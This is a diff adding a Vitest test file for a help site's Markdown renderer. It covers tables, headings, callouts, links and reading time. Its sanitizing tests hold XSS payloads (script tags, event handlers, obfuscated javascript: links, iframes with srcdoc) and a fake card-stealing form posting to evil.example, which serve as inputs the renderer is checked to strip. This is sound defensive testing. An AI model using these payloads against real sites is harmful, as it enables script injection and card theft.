@@ -1,0 +1,200 @@
+import { describe, expect, it } from 'vitest';
+import { calloutKinds, readingMinutes, renderMarkdown, type MarkdownLabels } from '@/lib/content/markdown';
+
+/** Labels of our own, so these tests do not change when the dictionary's wording does. */
+const labels: MarkdownLabels = {
+  callout: { NOTE: 'Note label', TIP: 'Tip label', IMPORTANT: 'Important label', WARNING: 'Warning label', CAUTION: 'Caution label' },
+  opensInNewTab: '(new tab)',
+  scrollableTable: 'Scrollable table',
+};
+
+const render = (source: string) => renderMarkdown(source, labels);
+const html = (source: string) => render(source).html;
+
+describe('renderMarkdown', () => {
+  it('renders GFM tables inside a focusable, labelled scrolling region', () => {
+    const output = html('| Message | Meaning |\n|---|---|\n| NOT CAPTURED | Refused |\n');
+    expect(output).toMatch(
+      /^<div class="table-scroll" tabindex="0" role="region" aria-label="Scrollable table"><table>[\s\S]*<th>Message<\/th>[\s\S]*<td>NOT CAPTURED<\/td>[\s\S]*<\/table><\/div>$/,
+    );
+  });
+
+  it('renders lists, emphasis and GFM strikethrough', () => {
+    const output = html('1. First\n2. **Second**\n\n- one\n- ~~two~~\n');
+    expect(output).toContain('<ol>\n<li>First</li>\n<li><strong>Second</strong></li>\n</ol>');
+    expect(output).toContain('<ul>\n<li>one</li>\n<li><del>two</del></li>\n</ul>');
+  });
+
+  it('gives headings unique ids and returns them for the table of contents', () => {
+    const result = render('Intro text.\n\n## Why it happens\n\nBecause.\n\n### The bank said no\n\nCall it.\n\n## Why it happens\n\nAgain.\n\n#### Deep\n');
+    expect(result.html).toContain('<h2 id="why-it-happens">Why it happens</h2>');
+    expect(result.html).toContain('<h3 id="the-bank-said-no">The bank said no</h3>');
+    expect(result.html).toContain('<h2 id="why-it-happens-1">Why it happens</h2>');
+    expect(result.headings).toEqual([
+      { depth: 2, id: 'why-it-happens', text: 'Why it happens' },
+      { depth: 3, id: 'the-bank-said-no', text: 'The bank said no' },
+      { depth: 2, id: 'why-it-happens-1', text: 'Why it happens' },
+    ]);
+  });
+
+  it('splits the text into sections under each heading, for search', () => {
+    const result = render('Intro   text.\n\n## Why it *happens*\n\nBecause.\n\n- a\n- b\n\n### Next\n\nCall.\n');
+    expect(result.sections).toEqual([
+      { id: '', heading: '', text: 'Intro text.' },
+      { id: 'why-it-happens', heading: 'Why it happens', text: 'Because. a b' },
+      { id: 'next', heading: 'Next', text: 'Call.' },
+    ]);
+  });
+
+  it('leaves out an empty intro section and counts words', () => {
+    const result = render('## One two\n\nthree four five\n');
+    expect(result.sections).toEqual([{ id: 'one-two', heading: 'One two', text: 'three four five' }]);
+    expect(result.wordCount).toBe(5);
+  });
+
+  it.each(calloutKinds)('turns a > [!%s] blockquote into a labelled callout', (kind) => {
+    const output = html(`> [!${kind}]\n> Never share your PIN.\n`);
+    expect(output).toBe(
+      `<div class="callout callout-${kind.toLowerCase()}"><p class="callout-title">${labels.callout[kind]}</p>\n<p>Never share your PIN.</p>\n</div>`,
+    );
+  });
+
+  it('keeps text written on the marker line of a callout', () => {
+    const output = html('> [!NOTE] Good to know\n> More text.\n');
+    expect(output).toContain('<p class="callout-title">Note label</p>');
+    expect(output).toContain('<p>Good to know\nMore text.</p>');
+    expect(output).not.toContain('[!NOTE]');
+  });
+
+  it('keeps a plain blockquote, and an unknown marker, as a blockquote', () => {
+    expect(html('> Just a quote.\n')).toBe('<blockquote>\n<p>Just a quote.</p>\n</blockquote>');
+    expect(html('> [!DANGER]\n> Not a kind.\n')).toBe('<blockquote>\n<p>[!DANGER]\nNot a kind.</p>\n</blockquote>');
+  });
+
+  it('opens external links in a new tab, safely, and says so to screen readers', () => {
+    expect(html('[Amazon help](https://www.amazon.com/help)')).toBe(
+      '<p><a href="https://www.amazon.com/help" target="_blank" rel="noopener noreferrer external" class="external-link">Amazon help<span class="sr-only"> (new tab)</span></a></p>',
+    );
+    expect(html('<a href="http://example.com">x</a>')).toContain('target="_blank" rel="noopener noreferrer external"');
+  });
+
+  it('leaves internal links, anchors and mailto links as they are', () => {
+    expect(html('[declined](/en/articles/transaction-declined#why) [up](#top) [mail](mailto:help@example.com)')).toBe(
+      '<p><a href="/en/articles/transaction-declined#why">declined</a> <a href="#top">up</a> <a href="mailto:help@example.com">mail</a></p>',
+    );
+  });
+
+  it('renders a "# " heading as h2 and reports its line', () => {
+    const result = render('Intro.\n\n# Big title\n\nText.\n');
+    expect(result.html).toContain('<h2 id="big-title">Big title</h2>');
+    expect(result.html).not.toContain('<h1');
+    expect(result.h1Lines).toEqual([3]);
+  });
+
+  it('collects links and images with their lines, before anything is removed', () => {
+    const result = render('[a](/en/articles/x)\n\n![A flow](/illustrations/x.svg)\n\n[bad](javascript:alert(1))\n');
+    expect(result.links).toEqual([
+      { url: '/en/articles/x', line: 1 },
+      { url: 'javascript:alert(1)', line: 5 },
+    ]);
+    expect(result.images).toEqual([{ url: '/illustrations/x.svg', alt: 'A flow', line: 3 }]);
+  });
+
+  it('keeps images from this site', () => {
+    expect(html('![A flow](/illustrations/x.svg)')).toBe('<p><img src="/illustrations/x.svg" alt="A flow"></p>');
+  });
+});
+
+describe('renderMarkdown sanitizing', () => {
+  const dangerous = /<script|onerror|onload|onclick|onmouseover|javascript:|vbscript:|<iframe|<style|<object|<embed|<form|srcdoc|style=/i;
+
+  it.each([
+    ['a script tag', '<script>alert(1)</script>'],
+    ['a script tag inside a paragraph', 'Text <script>alert(1)</script> more.'],
+    ['an image with onerror', '<img src=x onerror=alert(1)>'],
+    ['a raw javascript: link', '<a href="javascript:alert(1)">click</a>'],
+    ['a Markdown javascript: link', '[click](javascript:alert(1))'],
+    ['a mixed-case javascript: link', '<a href="JaVaScRiPt:alert(1)">click</a>'],
+    ['an entity-encoded javascript: link', '<a href="javascript&#58;alert(1)">click</a>'],
+    ['an entity-encoded Markdown javascript: link', '[click](javascript&#58;alert(1))'],
+    ['a javascript: link hidden by a tab', '<a href="jav&#x09;ascript:alert(1)">click</a>'],
+    ['a vbscript: link', '<a href="vbscript:msgbox(1)">click</a>'],
+    ['an iframe', '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>'],
+    ['a style block', '<style>body { display: none }</style>'],
+    ['an svg with onload', '<svg onload="alert(1)"><circle r="5"/></svg>'],
+    ['a div with onclick', '<div onclick="alert(1)">Click me</div>'],
+    ['a link with onmouseover', '<a href="/en" onmouseover="alert(1)">home</a>'],
+    ['a form with inputs', '<form action="https://evil.example/steal"><input type="text" name="card"><button>Pay</button></form>'],
+    ['a style attribute', '<p style="position:fixed;top:0">Fake KNET page</p>'],
+    ['an object and an embed', '<object data="x.swf"></object><embed src="x.swf">'],
+  ])('makes %s harmless', (_name, source) => {
+    const output = html(`Before.\n\n${source}\n\nAfter.\n`);
+    expect(output).not.toMatch(dangerous);
+    expect(output).toContain('<p>Before.</p>');
+    expect(output).toContain('<p>After.</p>');
+  });
+
+  it('keeps the text of removed elements only where it is the reader\'s text', () => {
+    expect(html('<div onclick="alert(1)">Click me</div>')).toBe('<div>Click me</div>');
+    expect(html('<p style="color:red">Red</p>')).toBe('<p>Red</p>');
+    expect(html('<a href="javascript:alert(1)">click</a>')).toBe('<p><a>click</a></p>');
+    expect(html('Text <script>alert(1)</script> more.')).not.toContain('alert');
+    const afterStyle = html('<style>body { display: none }</style>\n\nAfter.');
+    expect(afterStyle).not.toContain('display');
+    expect(afterStyle.trim()).toBe('<p>After.</p>');
+  });
+
+  it('keeps a safe image but drops its event handler', () => {
+    expect(html('<img src="/illustrations/x.svg" alt="A flow" onerror="alert(1)">')).toBe('<img src="/illustrations/x.svg" alt="A flow">');
+  });
+
+  it.each([
+    ['a Markdown image', '![A photo](https://evil.example/x.png)'],
+    ['a raw image', '<img src="https://evil.example/x.png" alt="A photo">'],
+    ['a protocol-relative image', '![A photo](//evil.example/x.png)'],
+    ['a raw protocol-relative image', '<img src="//evil.example/x.png" alt="A photo">'],
+    ['an image behind a backslash', '<img src="/\\evil.example/x.png" alt="A photo">'],
+    ['an image behind an encoded tab', '<img src="/&#x09;/evil.example/x.png" alt="A photo">'],
+    ['a data: image', '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="A photo">'],
+  ])('removes the address of %s from another site', (_name, source) => {
+    const output = html(source);
+    expect(output).toContain('alt="A photo"');
+    expect(output).not.toContain('src=');
+    expect(output).not.toContain('evil.example');
+  });
+
+  it('prefixes author-written ids so they cannot clobber the site\'s ids', () => {
+    const output = html('<a id="main-content" href="/en">x</a> <span name="search">y</span>\n\n## Main content\n');
+    expect(output).toContain('id="user-content-main-content"');
+    expect(output).toContain('name="user-content-search"');
+    expect(output).toContain('<h2 id="main-content">Main content</h2>');
+  });
+
+  it('prefixes the id of an author-written heading and lists it under that id', () => {
+    const result = render('<h2 id="top">Forged</h2>\n');
+    expect(result.html).toBe('<h2 id="user-content-top">Forged</h2>');
+    expect(result.headings).toEqual([{ depth: 2, id: 'user-content-top', text: 'Forged' }]);
+  });
+
+  it('strips author-written classes, so nothing can pose as a callout or screen-reader text', () => {
+    const output = html(
+      '<div class="callout callout-warning"><p class="callout-title">Warning</p>Send your PIN</div>\n\n<span class="sr-only">hidden</span>\n',
+    );
+    expect(output).not.toContain('class=');
+    expect(output).toContain('<div><p>Warning</p>Send your PIN</div>');
+  });
+
+  it('does not turn author-written link attributes into the site\'s own', () => {
+    const output = html('<a href="/en" target="_top" rel="opener">home</a>');
+    expect(output).toBe('<p><a href="/en">home</a></p>');
+  });
+});
+
+describe('readingMinutes', () => {
+  it('counts about 200 words a minute, never less than one', () => {
+    expect(readingMinutes(0)).toBe(1);
+    expect(readingMinutes(299)).toBe(1);
+    expect(readingMinutes(300)).toBe(2);
+    expect(readingMinutes(1000)).toBe(5);
+  });
+});
